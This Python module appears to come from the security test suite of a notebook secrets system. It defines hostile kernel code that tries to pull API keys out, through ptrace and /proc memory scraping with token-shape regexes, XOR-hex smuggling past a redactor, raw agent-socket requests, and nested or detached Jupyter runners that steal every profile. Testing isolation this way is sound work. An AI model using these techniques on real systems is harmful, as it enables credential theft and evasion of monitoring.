"""Code the hostile table defines in each kernel before its rows, as cell text.

``PRELUDE`` (with ``_HOSTILE`` set first by the driver: profile names, notebooks, the
store's and runtime folders) gives every row ``_hostile_emit``, which prints what a row
got XOR-ed and hex-encoded (a hostile notebook hides what it takes from the kernel's
redactor; ``rows.unsmuggle`` undoes it), and ``_hostile_try``, which emits a result or
the error met (its chain and its frames' locals too). ``PEEK`` reads another process
the hostile way; ``AGENT_*`` find and talk to the agent; ``CONTROL`` is the positive
control.
"""

from __future__ import annotations

PRELUDE = r'''
import base64 as _hb64, json as _hjson, os as _hos, sys as _hsys, traceback as _htb

def _hostile_forms(obj, depth=0, seen=None, out=None):
    """Every text form of what a row got: strings, bytes in four encodings, containers,
    objects' fields, exceptions with their chain and their frames' locals."""
    import inspect
    seen = set() if seen is None else seen
    out = [] if out is None else out
    if depth > 4 or id(obj) in seen or len(out) > 400:
        return out
    seen.add(id(obj))
    if obj is None or isinstance(obj, (bool, int, float, complex)):
        return out
    if isinstance(obj, str):
        out.append(obj[:20000])
        return out
    if isinstance(obj, (bytes, bytearray, memoryview)):
        b = bytes(obj)[:20000]
        out += [b.decode("latin-1"), b.hex(), _hb64.b64encode(b).decode(),
                _hb64.urlsafe_b64encode(b).decode()]
        return out
    if inspect.ismodule(obj) or inspect.isclass(obj) or inspect.isroutine(obj):
        return out
    if isinstance(obj, BaseException):
        out += [type(obj).__name__, str(obj)[:20000], repr(obj)[:20000],
                "".join(_htb.format_exception(type(obj), obj, obj.__traceback__))[:20000]]
        _hostile_forms(obj.args, depth + 1, seen, out)
        _hostile_forms(getattr(obj, "__dict__", {}), depth + 1, seen, out)
        _hostile_forms(obj.__cause__, depth + 1, seen, out)
        _hostile_forms(obj.__context__, depth + 1, seen, out)
        tb = obj.__traceback__
        while tb is not None:
            _hostile_forms(dict(tb.tb_frame.f_locals), depth + 2, seen, out)
            tb = tb.tb_next
        return out
    if isinstance(obj, dict):
        for k, v in list(obj.items())[:200]:
            _hostile_forms(k, depth + 1, seen, out)
            _hostile_forms(v, depth + 1, seen, out)
        return out
    if isinstance(obj, (list, tuple, set, frozenset)):
        for v in list(obj)[:200]:
            _hostile_forms(v, depth + 1, seen, out)
        return out
    for how in (repr, str):
        try:
            out.append(how(obj)[:20000])
        except BaseException:
            pass
    try:
        if hasattr(obj, "items") and callable(obj.items):
            _hostile_forms(dict(obj.items()), depth + 1, seen, out)
    except BaseException:
        pass
    fields = {}
    try:
        fields.update(object.__getattribute__(obj, "__dict__"))
    except BaseException:
        pass
    for klass in type(obj).__mro__:
        for slot in getattr(klass, "__slots__", ()) or ():
            try:
                fields[slot] = object.__getattribute__(obj, slot)
            except BaseException:
                pass
    _hostile_forms(fields, depth + 1, seen, out)
    return out

def _hostile_emit(label, obj):
    forms = list(dict.fromkeys(_hostile_forms(obj)))
    data = _hjson.dumps({"label": label, "forms": forms}).encode("utf-8")
    print("HOSTILE-SMUGGLED:" + bytes(b ^ 0x5A for b in data).hex(), flush=True)

def _hostile_try(label, fn, *args):
    try:
        got = fn(*args)
    except BaseException as exc:
        _hostile_emit(label + " raised", exc)
        return None
    _hostile_emit(label, got)
    return got

import zingy_nb
from zingy_nb import zingyConn
_HN = _HOSTILE["names"]
_HP = _HOSTILE["profile"]
'''

#: The positive control (allowed notebook, cloud flow): what the hostile rows must
#: never get, got the legitimate way, and a dumpable child's environ and memory read by
#: the same code as the agent's (``_hostile_peek``), holding a value.
CONTROL = r"""
for _n in _HN:
    _hostile_try("apikey " + _n, lambda n=_n: dict(zingyConn.apikey(n).items()))
import subprocess as _hsp
_child = _hsp.Popen([_hsys.executable, "-c", "import sys, time; v = sys.argv; time.sleep(60)"],
                    env={**_hos.environ, "HOSTILE_CONTROL": zingyConn.apikey(_HP).secret1})
import time as _ht; _ht.sleep(1.0)
try:
    _hostile_peek(_child.pid)
finally:
    _child.kill(); _child.wait()
"""

#: Reads another process the hostile way: ptrace attach, /proc/PID/environ, and
#: /proc/PID/mem through /proc/PID/maps, keeping from memory what looks like a key (the
#: master key's URL-safe base64 form) or a token of a well-known form.
PEEK = r"""
def _hostile_peek(pid):
    import ctypes, re
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long

    def attach():
        if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
            raise OSError(ctypes.get_errno(), "PTRACE_ATTACH refused")
        _hos.waitpid(pid, 0x40000000)  # __WALL
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        return "attached"

    def environ():
        with open(f"/proc/{pid}/environ", "rb") as f:
            return f.read()

    shapes = re.compile(rb"[A-Za-z0-9_-]{43}=|(?:sk_live_|ghp_|github_pat_|eyJ|whsec_|"
                        rb"-----BEGIN|MADEUP|Tr1ck)[\x20-\x7e]{4,400}")

    def mem():
        found, total = [], 0
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as m:
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("r"):
                    continue
                lo, hi = (int(x, 16) for x in span.split("-"))
                if hi - lo > 1 << 28:
                    continue
                try:
                    m.seek(lo)
                    chunk = m.read(hi - lo)
                except OSError:
                    continue
                total += len(chunk)
                found += [x.group(0) for x in shapes.finditer(chunk)][:2000]
        if total == 0:
            raise OSError("no byte of its memory could be read")
        return {"bytes read": str(total), "found": list(dict.fromkeys(found))[:5000]}

    _hostile_try("ptrace attach", attach)
    _hostile_try("proc environ", environ)
    _hostile_try("proc mem", mem)
"""

#: Where the agent's folder is: under the runtime dir, or (a socket path too deep)
#: under the temp dir.
AGENT_DIR = r"""
import glob as _hg
def _hostile_agent_dir():
    for pattern in ((_HOSTILE["runtime"], "zingy-nb", "agent-*"), (_HOSTILE["tmp"], "zingy-nb-*", "agent-*")):
        for d in sorted(_hg.glob(_hos.path.join(*pattern))):
            if _hos.path.exists(_hos.path.join(d, "sock")):
                return d
    raise RuntimeError("no agent folder with a socket")
"""

AGENT_PID = (
    AGENT_DIR
    + r"""
def _hostile_agent_pid():
    return int(open(_hos.path.join(_hostile_agent_dir(), "agent.pid")).read().strip())
"""
)

#: Raw requests on the agent's socket: the kernel writes its own lines.
AGENT_SOCKET = (
    AGENT_DIR
    + r"""
import socket as _hsock
def _hostile_connect():
    s = _hsock.socket(_hsock.AF_UNIX, _hsock.SOCK_STREAM)
    s.settimeout(20)
    s.connect(_hos.path.join(_hostile_agent_dir(), "sock"))
    return s

def _hostile_agent(*requests):
    s = _hostile_connect()
    f = s.makefile("rb")
    replies = []
    for i, req in enumerate(requests):
        s.sendall((_hjson.dumps({"id": i, **req}) + "\n").encode())
        replies.append(_hjson.loads(f.readline()))
    s.close()
    return replies
"""
)

#: Runners started from inside the kernel, each told to run a notebook whose one cell
#: retrieves every profile and prints what it got XOR-ed and hex-encoded after
#: ``STOLEN:`` (``_nested_unsteal`` decodes it from their output or output notebook).
NESTED = r'''
import re as _nre, subprocess as _nsp, tempfile as _ntf, time as _ntime, urllib.request as _nurl
import nbformat as _nbf
_NSTEAL = ("import json\nfrom zingy_nb import zingyConn\nout = {}\nfor n in %r:\n"
           "    try:\n        out[n] = dict(zingyConn.apikey(n).items())\n"
           "    except Exception as e:\n        out[n] = type(e).__name__ + ': ' + str(e)\n"
           "print('STOLEN:' + bytes(b ^ 0x5A for b in json.dumps(out).encode()).hex())\n"
           % (_HN,))
_ND = _ntf.mkdtemp(prefix="nested-")

def _nested_notebook(path, spec):
    nb = _nbf.v4.new_notebook(cells=[_nbf.v4.new_code_cell(_NSTEAL)])
    nb.metadata["kernelspec"] = {"name": spec, "display_name": spec, "language": "python"}
    _nbf.write(nb, path)
    return path

def _nested_unsteal(text):
    """What a nested kernel smuggled out, decoded, and the text itself (its errors)."""
    got = [bytes(b ^ 0x5A for b in bytes.fromhex(m.group(1))).decode()
           for m in _nre.finditer(r"STOLEN:([0-9a-f]+)", text)]
    return got + [text[-6000:]]

def _nested_run(argv, out, env=None):
    p = _nsp.run(argv, capture_output=True, text=True, timeout=100, env=env, cwd=_ND,
                 stdin=_nsp.DEVNULL)
    text = p.stdout + p.stderr
    if _hos.path.exists(out):
        text += open(out).read()
    return _nested_unsteal(text)

def _nested_server(detach):
    """A Jupyter server started from the kernel (``detach``: double-forked away from
    it), asked for a cloud-flow session of the allowed notebook; its kernel steals."""
    import secrets, socket
    from jupyter_client import BlockingKernelClient
    from jupyter_core.paths import jupyter_runtime_dir
    while True:  # below the ephemeral range, as tests/ports.py explains
        port = 20000 + secrets.randbelow(12000)
        with socket.socket() as s:
            try:
                s.bind(("127.0.0.1", port))
                break
            except OSError:
                continue
    token = secrets.token_hex(16)
    argv = [_hsys.executable, "-m", "jupyter", "server", "--no-browser", "--ip=127.0.0.1",
            f"--port={port}", f"--IdentityProvider.token={token}",
            "--ServerApp.root_dir=" + _hos.path.dirname(_HOSTILE["allowed"])]
    log = _hos.path.join(_ND, f"server-{port}.log")
    if detach:  # sh starts it in the background and exits: the server has no parent here
        _nsp.run(["setsid", "sh", "-c", '"$@" >"$0" 2>&1 </dev/null &', log, *argv],
                 check=True, timeout=30)
        proc = None
    else:
        proc = _nsp.Popen(argv, stdout=open(log, "wb"), stderr=_nsp.STDOUT,
                          stdin=_nsp.DEVNULL)
    base = f"http://127.0.0.1:{port}"
    head = {"Authorization": "token " + token, "Content-Type": "application/json"}
    def call(method, path, body=None):
        data = None if body is None else _hjson.dumps(body).encode()
        req = _nurl.Request(base + path, data=data, headers=head, method=method)
        with _nurl.urlopen(req, timeout=60) as r:
            return _hjson.loads(r.read() or b"null")
    try:
        for _ in range(240):
            try:
                call("GET", "/api/status")
                break
            except OSError:
                _ntime.sleep(0.25)
        else:
            raise RuntimeError("the server did not start: " + open(log).read()[-3000:])
        name = _hos.path.basename(_HOSTILE["allowed"])
        sess = call("POST", "/api/sessions", {"path": name, "name": name, "type": "notebook",
                                              "kernel": {"name": "zingy-cloud-flow"}})
        kid = sess["kernel"]["id"]
        kc = BlockingKernelClient(
            connection_file=_hos.path.join(jupyter_runtime_dir(), f"kernel-{kid}.json"))
        kc.load_connection_file()
        kc.start_channels()
        got = []
        try:
            kc.wait_for_ready(timeout=60)
            kc.execute_interactive(_NSTEAL, timeout=60, output_hook=lambda m: got.append(
                m["content"].get("text", "") + m["content"].get("evalue", "")))
        finally:
            kc.stop_channels()
        return _nested_unsteal("".join(got))
    finally:
        try:
            call("POST", "/api/shutdown")
        except Exception:
            pass
        if proc is not None:
            try:
                proc.wait(timeout=30)
            except Exception:
                proc.kill()
'''
